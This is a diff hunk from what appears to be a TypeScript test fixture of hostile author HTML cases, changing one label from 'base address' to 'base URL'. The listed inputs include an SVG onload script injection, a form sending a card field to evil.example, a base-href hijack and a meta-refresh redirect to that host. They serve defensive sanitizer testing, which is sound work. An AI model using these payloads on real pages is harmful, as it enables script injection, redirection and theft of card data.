@@ -32,7 +32,7 @@ const AUTHOR_HTML: readonly Fault[] = [
   html('an SVG with a handler', '<p>a</p><svg onload=alert(1)>', '<svg>'),
   html('styles', '<style>p{display:none}</style><p>a</p>', '<style>'),
   html('a form', '<p>a</p><form action="https://evil.example"><input name="card"></form>', '<form>'),
-  html('another base address', '<base href="https://evil.example/"><p>a</p>', '<base>'),
+  html('another base URL', '<base href="https://evil.example/"><p>a</p>', '<base>'),
   html('a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example"><p>a</p>', '<meta>'),
   html(
     'formulas that change how the rest is read',
